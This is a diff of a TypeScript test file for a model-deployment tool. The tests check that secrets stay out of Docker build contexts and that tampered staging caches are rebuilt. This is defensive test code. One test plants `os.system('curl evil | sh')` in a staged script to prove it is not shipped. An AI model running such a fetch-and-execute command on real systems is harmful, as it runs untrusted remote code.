@@ -5,13 +5,13 @@
 import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
-import { BuildContextSpec, computeFingerprint, SECRET_EXCLUDES, stageBuildContext, stagingRoot } from "../../lib/image/build-context";
+import { BuildContextSpec, computeFingerprint, prepareBuildContext, SECRET_EXCLUDES, stagingRoot } from "../../lib/image/build-context";
 import { preparePrivateRoot, removeOldContexts, manifestPath, touchContext } from "../../lib/image/staging/staging-root";
 import { resolveEntryScript } from "../../lib/entry-script";
 import { ModelSource } from "../../lib/model/model-source";
 import { ValidationError } from "../../lib/errors";
 import { useStagingSandbox } from "../staging-sandbox";
-import { imageView, packEntries } from "../context-view";
+import { imageView, packEntries, stageContext } from "../context-view";
 
 const SCRIPT = "def init():\n    pass\n\ndef run(data):\n    return data\n";
 
@@ -55,7 +55,7 @@ function spec(root: string, overrides: Partial<BuildContextSpec> = {}): BuildCon
 }
 
 /** The staged files from the entry script's folder. */
-const sourceFiles = (staged: { files: string[] }): string[] => staged.files.filter((f) => f.startsWith("source/"));
+const sourceFiles = (staged: { files: readonly string[] }): string[] => staged.files.filter((f) => f.startsWith("source/"));
 const keptWarning = "Deployment: in the image although they look like secrets, because a `!` line of a .dockerignore names them: ";
 
 /** Every hostile file the issue names, plus the other obvious credential files. */
@@ -99,7 +99,7 @@ describe("secret exclusions", () => {
   test.each(["src", "models/bundle"])("each hostile file in %s is left out, reported sorted, and does not change the fingerprint", (folder) => {
     const clean = project();
     const root = project(Object.fromEntries(HOSTILE.map((h) => [`${folder}/${h}`, `secret ${h}`])));
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     const prefix = folder === "src" ? "source/" : "model/bundle/";
     // As the image gets them: the model's small files unpacked from the pack.
     const inImage = Object.keys(imageView(staged.directory));
@@ -124,7 +124,7 @@ describe("secret exclusions", () => {
 
   test("a ! line in the folder's .dockerignore naming one re-includes it (reported as kept)", () => {
     const root = project({ "src/.env": "A=1", "src/server.key": "k", "src/.dockerignore": "!.env\n" });
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(staged.files).toContain("source/.env");
     expect(staged.files).not.toContain("source/server.key");
     expect(staged.secretExcluded).toEqual(["source/server.key"]);
@@ -142,14 +142,14 @@ describe("secret exclusions", () => {
       "src/sub/node_modules/m/index.js": "",
       "src/other.py": "left out by *",
     });
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(sourceFiles(staged)).toEqual(["source/score.py", "source/sub/ok.py"]);
     expect(staged.secretExcluded).toEqual(["source/sub/.env", "source/sub/deep/ca.pem", "source/sub/deep/tls.key"]);
     const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
     expect(onDisk.filter((f) => f.startsWith("source"))).toEqual(expect.not.arrayContaining([expect.stringMatching(/\.env|\.key|\.pem|\.git|node_modules/)]));
     // A ! line that names the secret itself still re-includes it.
     const named = project({ "src/.dockerignore": "*\n!score.py\n!sub\n!sub/*.pem\n", "src/sub/ca.pem": "public cert", "src/sub/.env": "A=1" });
-    const kept = stageBuildContext(spec(named));
+    const kept = stageContext(spec(named));
     expect(sourceFiles(kept)).toEqual(["source/score.py", "source/sub/ca.pem"]);
     expect(kept.secretExcluded).toEqual(["source/sub/.env"]);
   });
@@ -161,7 +161,7 @@ describe("secret exclusions", () => {
     fs.symlinkSync("sub/deep/tls.key", path.join(src, "tls.txt"));
     fs.symlinkSync(".kube", path.join(src, "kube"));
     fs.symlinkSync("data.txt", path.join(src, "data-link.txt"));
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(sourceFiles(staged)).toEqual(["source/.kube/cache.txt", "source/data-link.txt", "source/data.txt", "source/kube/cache.txt", "source/score.py"]);
     expect(staged.secretExcluded).toEqual([
       "source/.env",
@@ -175,7 +175,7 @@ describe("secret exclusions", () => {
     // A link to a whole secret folder.
     const ssh = project({ "src/.ssh/id_ed25519": "SECRET" });
     fs.symlinkSync(".ssh", path.join(ssh, "src", "keys"));
-    const sshStaged = stageBuildContext(spec(ssh));
+    const sshStaged = stageContext(spec(ssh));
     expect(sourceFiles(sshStaged)).toEqual(["source/score.py"]);
     expect(sshStaged.secretExcluded).toEqual(["source/.ssh/", "source/keys/ (links to .ssh)"]);
   });
@@ -188,7 +188,7 @@ describe("secret exclusions", () => {
       "src/.git/HEAD": "ref: refs/heads/main\n",
       "src/.git/config": "[remote] url = https://user:SECRET@example.com/x.git",
     });
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(sourceFiles(staged)).toEqual(["source/.aws/config", "source/.git/HEAD", "source/score.py"]);
     expect(staged.secretExcluded).toEqual(["source/.aws/credentials"]);
     expect(warnings()).toContain(`${keptWarning}source/.aws/config.`);
@@ -204,7 +204,7 @@ describe("secret exclusions", () => {
       "src/.git/HEAD": "ref: refs/heads/main\n",
       "src/.git/id_rsa": "SECRET",
     });
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(sourceFiles(staged)).toEqual(["source/.git/HEAD", "source/cert.pem", "source/keys.pem/readme.txt", "source/score.py"]);
     expect(staged.secretExcluded).toEqual(["source/.git/id_rsa", "source/keys.pem/.env", "source/keys.pem/id_rsa"]);
   });
@@ -217,7 +217,7 @@ describe("secret exclusions", () => {
     });
     fs.symlinkSync("model/private/creds.yaml", path.join(root, "src", "settings.yaml"));
     fs.symlinkSync("model/private", path.join(root, "src", "cfg"));
-    const staged = stageBuildContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "src", "model")).resolve("T") }));
+    const staged = stageContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "src", "model")).resolve("T") }));
     expect(staged.files.filter((f) => !f.startsWith("app/"))).toEqual(["Dockerfile", "host-requirements.txt", "model-small-files.tar", "model/.packed", "requirements.txt", "source/score.py"]);
     expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", "model/", "model/weights.bin"]);
   });
@@ -228,15 +228,15 @@ describe("secret exclusions", () => {
     fs.renameSync(path.join(image, "Dockerfile"), path.join(image, "Dockerfile.real"));
     fs.writeFileSync(path.join(image, "Dockerfile.real"), "FROM python\n# a longer Dockerfile than its link's target name\n");
     fs.symlinkSync("Dockerfile.real", path.join(image, "Dockerfile"));
-    const staged = stageBuildContext(spec(root));
-    expect(staged.sizes![staged.files.indexOf("Dockerfile")]).toBe(fs.statSync(path.join(image, "Dockerfile.real")).size);
+    const staged = stageContext(spec(root));
+    expect(fs.statSync(path.join(staged.directory, "Dockerfile")).size).toBe(fs.statSync(path.join(image, "Dockerfile.real")).size);
     expect(fs.readFileSync(path.join(staged.directory, "Dockerfile"), "utf8")).toContain("a longer Dockerfile");
   });
 
   test("every file left out is named, however many", () => {
     const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`src/keys/k${String(i).padStart(2, "0")}.pem`, "SECRET"]));
     const root = project({ ...many, "src/terraform.tfstate": "{}" });
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(staged.secretExcluded).toHaveLength(41);
     const message = warnings()[0];
     for (const f of staged.secretExcluded!) expect(message).toContain(f);
@@ -245,7 +245,7 @@ describe("secret exclusions", () => {
   });
 
   test("no warning when nothing was left out", () => {
-    stageBuildContext(spec(project()));
+    stageContext(spec(project()));
     expect(warn).not.toHaveBeenCalled();
   });
 
@@ -260,7 +260,7 @@ describe("secret exclusions", () => {
 describe("names the image layout must not trip over", () => {
   test("a model folder named .packed gets the other placeholder name, so the pack's folder is not unpacked over a file", () => {
     const root = project({ "models/.packed/w.bin": "w" });
-    const staged = stageBuildContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "models", ".packed")).resolve("T") }));
+    const staged = stageContext(spec(root, { model: ModelSource.fromLocalPath(path.join(root, "models", ".packed")).resolve("T") }));
     expect(staged.files.filter((f) => f.startsWith("model"))).toEqual(["model-small-files.tar", "model/.packed-placeholder"]);
     expect(packEntries(path.join(staged.directory, "model-small-files.tar"))).toEqual(["./", ".packed/", ".packed/w.bin"]);
     expect(imageView(staged.directory)["model/.packed/w.bin"].toString("utf8")).toBe("w");
@@ -270,7 +270,7 @@ describe("names the image layout must not trip over", () => {
     const root = project();
     const bad = Buffer.concat([Buffer.from(path.join(root, "models", "bundle", "caf")), Buffer.from([0xe9]), Buffer.from(".txt")]);
     fs.writeFileSync(bad, "latin-1 name");
-    expect(() => stageBuildContext(spec(root))).toThrow(`Deployment: invalid model ${JSON.stringify(path.join(root, "models", "bundle"))}: the name of caf\uFFFD.txt is not valid UTF-8. Allowed: file and folder names in UTF-8 (rename the file)`);
+    expect(() => stageContext(spec(root))).toThrow(`Deployment: invalid model ${JSON.stringify(path.join(root, "models", "bundle"))}: the name of caf\uFFFD.txt is not valid UTF-8. Allowed: file and folder names in UTF-8 (rename the file)`);
   });
 });
 
@@ -322,7 +322,7 @@ describe("dangerous folders are refused", () => {
   test("a model file (not a folder) at the project root is fine: only that file is copied", () => {
     const root = project();
     const model = { absolutePath: path.join(process.cwd(), "package.json"), kind: "file" as const, basename: "package.json" };
-    const staged = stageBuildContext(spec(root, { model }));
+    const staged = stageContext(spec(root, { model }));
     expect(Object.keys(imageView(staged.directory)).filter((f) => f.startsWith("model/"))).toEqual(["model/package.json"]);
   });
 });
@@ -335,13 +335,13 @@ describe("nothing shadows the model (COPY order)", () => {
 
   test("excluding it with .dockerignore is accepted", () => {
     const root = project({ "src/azureml-models/bundle/weights.bin": "planted", "src/.dockerignore": "azureml-models\n" });
-    expect(stageBuildContext(spec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
+    expect(stageContext(spec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
   });
 
   test("a model kept inside the source folder under azureml-models/ is fine (it is not copied twice)", () => {
     const root = project({ "src/azureml-models/m.pkl": "model" });
     const model = ModelSource.fromLocalPath(path.join(root, "src", "azureml-models")).resolve("T");
-    const staged = stageBuildContext(spec(root, { model }));
+    const staged = stageContext(spec(root, { model }));
     expect(Object.keys(imageView(staged.directory))).toContain("model/azureml-models/m.pkl");
     expect(staged.files.some((f) => f.startsWith("source/azureml-models"))).toBe(false);
   });
@@ -351,10 +351,10 @@ describe("the staging cache is not trusted because it exists", () => {
   test("the staging root is private: created 0700, narrowed when wider, refused when a link", () => {
     const root = stagingRoot();
     expect(root).toBe(path.join(sandbox(), "staging"));
-    stageBuildContext(spec(project()));
+    stageContext(spec(project()));
     expect(fs.statSync(root).mode & 0o777).toBe(0o700);
     fs.chmodSync(root, 0o777);
-    stageBuildContext(spec(project()));
+    stageContext(spec(project()));
     expect(fs.statSync(root).mode & 0o777).toBe(0o700);
     const link = path.join(sandbox(), "link-root");
     fs.symlinkSync(root, link);
@@ -376,29 +376,29 @@ describe("the staging cache is not trusted because it exists", () => {
 
   test("a planted score.py in the staged context is not shipped, even with its mtime set back", () => {
     const root = project();
-    const first = stageBuildContext(spec(root));
+    const first = stageContext(spec(root));
     const staged = path.join(first.directory, "source", "score.py");
     const { atime, mtime } = fs.statSync(staged);
     fs.writeFileSync(staged, "import os\nos.system('curl evil | sh')\n");
     fs.utimesSync(staged, atime, mtime);
-    const again = stageBuildContext(spec(root));
+    const again = stageContext(spec(root));
     expect(again.fingerprint).toBe(first.fingerprint);
     expect(fs.readFileSync(path.join(again.directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
   });
 
   test("a big model file removed after it was hashed, before the context is staged, fails the synth by name", () => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const context = stageBuildContext(spec(root));
+    const context = prepareBuildContext(spec(root));
     const big = fs.realpathSync(path.join(root, "models", "bundle", "big.bin"));
     fs.rmSync(big);
-    expect(() => context.directory).toThrow(`Deployment: invalid buildContext ${JSON.stringify(big)}: the file changed while it was being staged (ENOENT)`);
+    expect(() => context.stageFolder()).toThrow(`Deployment: invalid buildContext ${JSON.stringify(big)}: the file changed while it was being staged (ENOENT)`);
   });
 
-  test("a source file changed after it was hashed: small ones are staged as hashed, a big one fails the synth", () => {
+  test("a source file changed after it was hashed: small model files are staged as hashed, a big one fails the synth", () => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const context = stageBuildContext(spec(root));
-    // Staging is lazy: both files change after hashing and before the folder is written, each
-    // with its size and mtime kept.
+    const context = prepareBuildContext(spec(root));
+    // Both files change after hashing and before the folder is staged, each with its size and
+    // mtime kept.
     const rewrite = (file: string): void => {
       const { atime, mtime, size } = fs.statSync(file);
       fs.writeFileSync(file, "x".repeat(size));
@@ -406,14 +406,15 @@ describe("the staging cache is not trusted because it exists", () => {
     };
     rewrite(path.join(root, "models", "bundle", "weights.bin"));
     rewrite(path.join(root, "models", "bundle", "big.bin"));
-    expect(() => context.directory).toThrow(`Deployment: invalid buildContext ${JSON.stringify(fs.realpathSync(path.join(root, "models", "bundle", "big.bin")))}: the file changed while it was being staged`);
+    expect(() => context.stageFolder()).toThrow(`Deployment: invalid buildContext ${JSON.stringify(fs.realpathSync(path.join(root, "models", "bundle", "big.bin")))}: the file changed while it was being staged`);
 
-    // Without the big file the small one is staged with the bytes that were hashed (kept from
-    // hashing, staging/kept-bytes.ts), so the folder matches its fingerprint.
-    const small = project();
-    const again = stageBuildContext(spec(small));
+    // Without the big file the small one is staged with the bytes that were hashed (the pack is
+    // written as the model is hashed, staging/small-files-pack.ts), so the folder matches its
+    // fingerprint. Content of its own: a context staged before would be reused as it is.
+    const small = project({ "src/unique.txt": `${Date.now()}-${Math.random()}` });
+    const again = prepareBuildContext(spec(small));
     rewrite(path.join(small, "models", "bundle", "weights.bin"));
-    expect(imageView(again.directory)["model/bundle/weights.bin"].toString("utf8")).toBe("0123456789");
+    expect(imageView(again.stageFolder().directory)["model/bundle/weights.bin"].toString("utf8")).toBe("0123456789");
   });
 
   test.each([
@@ -421,7 +422,7 @@ describe("the staging cache is not trusted because it exists", () => {
     ["the staged pack of the small model files", ["model-small-files.tar"]],
   ])("%s replaced by another file (same size and bytes) is restaged", (_, rel) => {
     const root = project({ "models/bundle/big.bin": "b".repeat(100 << 10) });
-    const first = stageBuildContext(spec(root));
+    const first = stageContext(spec(root));
     const staged = path.join(first.directory, ...rel);
     const bytes = fs.readFileSync(staged);
     fs.rmSync(staged);
@@ -429,32 +430,32 @@ describe("the staging cache is not trusted because it exists", () => {
     // A second link keeps the replacement's inode number from being reused by the restage.
     const keep = path.join(sandbox(), `keep-${counter++}`);
     fs.linkSync(staged, keep);
-    const again = stageBuildContext(spec(root));
+    const again = stageContext(spec(root));
     expect(fs.statSync(path.join(again.directory, ...rel)).ino).not.toBe(fs.statSync(keep).ino);
   });
 
-  test("staging is lazy: nothing is verified or written until directory is read", () => {
+  test("staging is explicit: nothing is verified or written until stageFolder() is called", () => {
     const root = project();
-    const first = stageBuildContext(spec(root));
-    expect(first.location).toBe(first.directory);
+    const first = stageContext(spec(root));
+    expect(first.directory).toBe(path.join(stagingRoot(), first.fingerprint));
     const planted = path.join(first.directory, "source", "score.py");
     fs.writeFileSync(planted, "planted\n");
-    const again = stageBuildContext(spec(root));
-    // Not read yet: the planted file is still there (no build has used the folder).
+    const again = prepareBuildContext(spec(root));
+    // Not staged yet: the planted file is still there (no build has used the folder).
     expect(fs.readFileSync(planted, "utf8")).toBe("planted\n");
-    // Read: verified against the manifest and restaged before anyone gets the path.
-    expect(fs.readFileSync(path.join(again.directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
+    // Staged: verified against the manifest and restaged before anyone gets the path.
+    expect(fs.readFileSync(path.join(again.stageFolder().directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
   });
 
   test("a context without its manifest is restaged (and gets one)", () => {
     const root = project();
-    const first = stageBuildContext(spec(root));
+    const first = stageContext(spec(root));
     const manifest = manifestPath(path.dirname(first.directory), first.fingerprint);
     const keep = path.join(sandbox(), `keep-${counter++}`);
     fs.linkSync(path.join(first.directory, "source", "score.py"), keep);
     fs.rmSync(manifest);
-    // Staging is lazy: reading `directory` verifies (here: restages) the context.
-    expect(stageBuildContext(spec(root)).directory).toBe(first.directory);
+    // Staging verifies (here: restages) the context.
+    expect(stageContext(spec(root)).directory).toBe(first.directory);
     expect(fs.statSync(path.join(first.directory, "source", "score.py")).ino).not.toBe(fs.statSync(keep).ino);
     expect(fs.existsSync(manifest)).toBe(true);
   });
@@ -464,7 +465,7 @@ describe("the staging cache is not trusted because it exists", () => {
     fs.chmodSync(path.join(root, "src", "score.py"), 0o700);
     fs.chmodSync(path.join(root, "models", "bundle", "big.bin"), 0o600);
     fs.chmodSync(path.join(root, "models", "bundle"), 0o700);
-    const staged = stageBuildContext(spec(root));
+    const staged = stageContext(spec(root));
     expect(fs.statSync(path.join(staged.directory, "source", "score.py")).mode & 0o777).toBe(0o644);
     expect(fs.statSync(path.join(staged.directory, "model", "bundle", "big.bin")).mode & 0o777).toBe(0o644);
     expect(fs.statSync(path.join(staged.directory, "model-small-files.tar")).mode & 0o777).toBe(0o644);
@@ -490,9 +491,11 @@ describe("old contexts are cleaned up", () => {
     const current = make(999, 30 * 24 * 3600); // the one in use is never removed
     fs.mkdirSync(path.join(root, ".staging-abc-old"));
     fs.utimesSync(path.join(root, ".staging-abc-old"), now - 7200, now - 7200);
-    // The digest cache of earlier versions (JSON) goes; the current one stays.
+    // The digest caches and memos of earlier versions go; the current inputs' manifests stay.
     fs.writeFileSync(path.join(root, "file-digests.json"), "{}");
     fs.writeFileSync(path.join(root, "file-digests.txt"), "aml-function-deployment/digest-cache/v3\n");
+    fs.writeFileSync(path.join(root, "folder-memo-0123.json"), "{}");
+    fs.writeFileSync(path.join(root, "input-0123.json"), "{}");
     removeOldContexts(root, current);
     const left = new Set(fs.readdirSync(root));
     for (const n of fresh) expect(left.has(n) && left.has(`${n}.tar.gz`) && left.has(`${n}.manifest.json`)).toBe(true);
@@ -501,7 +504,9 @@ describe("old contexts are cleaned up", () => {
     expect(left.has(current)).toBe(true);
     expect(left.has(".staging-abc-old")).toBe(false);
     expect(left.has("file-digests.json")).toBe(false);
-    expect(left.has("file-digests.txt")).toBe(true);
+    expect(left.has("file-digests.txt")).toBe(false);
+    expect(left.has("folder-memo-0123.json")).toBe(false);
+    expect(left.has("input-0123.json")).toBe(true);
   });
 });
 
